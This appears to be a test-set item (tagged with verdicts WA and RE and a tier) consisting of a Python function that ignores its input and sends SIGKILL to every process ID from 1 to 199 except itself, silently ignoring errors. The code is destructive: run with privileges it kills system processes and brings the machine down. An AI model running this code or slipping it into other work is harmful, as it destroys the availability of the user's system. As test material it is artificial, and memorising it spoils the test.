"""Kills every process of a low number, one by one, itself excepted."""
# kind: function
# verdicts: WA, RE
# tiers: T1

import os
import signal


def f(x):
    for pid in range(1, 200):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 0
